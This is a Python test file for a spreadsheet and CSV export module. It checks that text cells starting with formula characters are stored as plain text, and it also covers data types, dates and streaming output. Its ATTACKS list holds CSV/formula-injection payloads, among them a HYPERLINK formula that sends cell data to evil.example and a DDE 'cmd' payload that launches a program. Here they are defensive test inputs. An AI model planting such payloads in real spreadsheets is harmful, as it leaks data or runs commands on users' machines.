"""Cells of the workbooks we write: a text is a text, whatever it starts with (OWASP's formula
injection), and reads back exactly as it was; our own formulas only through Formula."""

from __future__ import annotations

from datetime import date, datetime
from io import BytesIO

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from python_calamine import CalamineWorkbook

from tochuc.core.excel import (
    FORMULA_START,
    Formula,
    cells,
    csv_text,
    put,
    xlsx_chunks,
    xlsx_write,
)

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A2,"Bấm")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|' /C calc'!A0",
    "#N/A",
    "#DIV/0!",
    "=",
]


def _written(values: list) -> bytes:
    out = BytesIO()
    xlsx_write(out, title="Danh sách", headers=["Cột"], rows=[[v] for v in values])
    return out.getvalue()


def _cells_of(data: bytes) -> list:
    return [row[0] for row in load_workbook(BytesIO(data)).active.iter_rows(min_row=4)]


def _calamine(data: bytes) -> list:
    book = CalamineWorkbook.from_filelike(BytesIO(data))
    return [row[0] for row in book.get_sheet_by_name(book.sheet_names[0]).to_python()[3:]]


def test_a_text_that_starts_like_a_formula_is_written_as_text():
    data = _written(ATTACKS)
    for text, written in zip(ATTACKS, _cells_of(data), strict=True):
        assert written.data_type == "s", text
        assert written.value == text
        # Excel's quote prefix: the cell stays text even after the user edits it.
        assert written.quotePrefix, text
    assert _calamine(data) == ATTACKS


def test_our_own_formula_is_a_formula():
    data = _written([2, 3, Formula("=SUM(A4:A5)")])
    assert _cells_of(data)[2].data_type == "f"
    assert _cells_of(data)[2].value == "=SUM(A4:A5)"
    with pytest.raises(ValueError):
        Formula("SUM(A4:A5)")


def test_ordinary_values_keep_their_type_and_dates_show_day_first():
    data = _written(["Nguyễn Văn An", 12, 1.5, date(2020, 2, 5)])
    text, whole, part, day = _cells_of(data)
    assert (text.value, text.quotePrefix) == ("Nguyễn Văn An", False)
    assert (whole.value, part.value) == (12, 1.5)
    assert day.value.date() == date(2020, 2, 5) and day.number_format == "DD/MM/YYYY"


def test_ordinary_sheets_follow_the_same_rule():
    book = Workbook()
    sheet = book.active
    sheet.append(cells(sheet, ["=1+1", "An", Formula("=1+2")]))
    put(sheet, 2, 1, "=2+2")
    put(sheet, 2, 2, "Bình")
    out = BytesIO()
    book.save(out)
    back = load_workbook(BytesIO(out.getvalue())).active
    assert [(c.value, c.data_type) for c in back[1]] == [("=1+1", "s"), ("An", "s"), ("=1+2", "f")]
    assert [(c.value, c.data_type) for c in back[2][:2]] == [("=2+2", "s"), ("Bình", "s")]
    assert back["A1"].quotePrefix and back["A2"].quotePrefix


cell_text_st = st.one_of(
    st.text(min_size=1),
    st.builds(lambda start, rest: start + rest, st.sampled_from(sorted(FORMULA_START)), st.text()),
).filter(lambda t: ILLEGAL_CHARACTERS_RE.sub("", t))


@given(st.lists(cell_text_st, min_size=1, max_size=5))
@settings(max_examples=150, deadline=None)
def test_any_text_is_never_a_formula_and_reads_back_identical(texts):
    """Identical but for the control characters XML 1.0 has no place for (openpyxl refuses
    them), which are dropped."""
    data = _written(texts)
    expected = [ILLEGAL_CHARACTERS_RE.sub("", t) for t in texts]
    for text, written in zip(expected, _cells_of(data), strict=True):
        assert written.data_type == "s"
        assert written.value == text
    assert _calamine(data) == expected


def test_a_control_character_does_not_break_the_file():
    data = _written(["Kỹ\x01sư", "\x02=1+1", "An"])
    assert [(c.value, c.data_type) for c in _cells_of(data)] == [
        ("Kỹsư", "s"),
        ("=1+1", "s"),
        ("An", "s"),
    ]
    assert _cells_of(data)[1].quotePrefix


def formulas_in(data: bytes) -> list[str]:
    """Every formula cell of every sheet of a workbook, as «sheet!A1: =...»."""
    book = load_workbook(BytesIO(data))
    return [
        f"{sheet.title}!{c.coordinate}: {c.value}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for c in row
        if c.data_type == "f"
    ]


@given(st.text(max_size=40))
def test_a_csv_value_never_starts_like_a_formula(text):
    # the replay's review list (tochuc orgs replay-2025 --review) is a CSV file
    written = csv_text(text)
    assert written[:1] not in FORMULA_START
    assert written in (text, "'" + text)
    assert csv_text(42) == 42


def test_the_first_bytes_leave_before_the_first_row_is_read():
    read = []

    def rows():
        for i in range(1200):
            read.append(i)
            yield [f"Người {i}", date(1980, 1, 1 + i % 28), i]

    chunks = xlsx_chunks(title="Danh sách", headers=["Tên", "Ngày sinh", "Số"], rows=rows())
    first = next(chunks)
    assert first.startswith(b"PK") and read == []
    data = first + b"".join(chunks)
    sheet = load_workbook(BytesIO(data)).active
    assert sheet.freeze_panes == "A4" and sheet["A1"].font.b and sheet["A3"].value == "Tên"
    assert [c.value for c in sheet[5]] == ["Người 1", datetime(1980, 1, 2), 1]
    assert sheet["B5"].number_format == "DD/MM/YYYY"
    assert sheet.max_row == 3 + 1200


def test_the_writer_says_how_many_rows_went_also_when_the_reader_stops():
    seen = []
    chunks = xlsx_chunks(
        title="x", headers=["a"], rows=([i] for i in range(5000)), done=lambda *a: seen.append(a)
    )
    next(chunks), next(chunks)  # the parts, then the first rows
    chunks.close()
    ((rows, finished),) = seen
    assert 0 < rows < 5000 and not finished
    seen.clear()
    b"".join(xlsx_chunks(title="x", headers=["a"], rows=[[1], [2]], done=lambda *a: seen.append(a)))
    assert seen == [(2, True)]


@settings(max_examples=60, deadline=None)
@given(st.lists(st.one_of(st.text(), st.integers(-(10**12), 10**12), st.dates()), max_size=6))
def test_what_is_streamed_reads_back_as_it_was(values):
    values = [ILLEGAL_CHARACTERS_RE.sub("", v) if isinstance(v, str) else v for v in values]
    out = BytesIO()
    xlsx_write(out, title="T", headers=["h"] * max(len(values), 1), rows=[values])
    row = [c.value for c in load_workbook(BytesIO(out.getvalue())).active[4]]
    expected = [datetime(v.year, v.month, v.day) if isinstance(v, date) else v for v in values]
    assert row[: len(values)] == expected
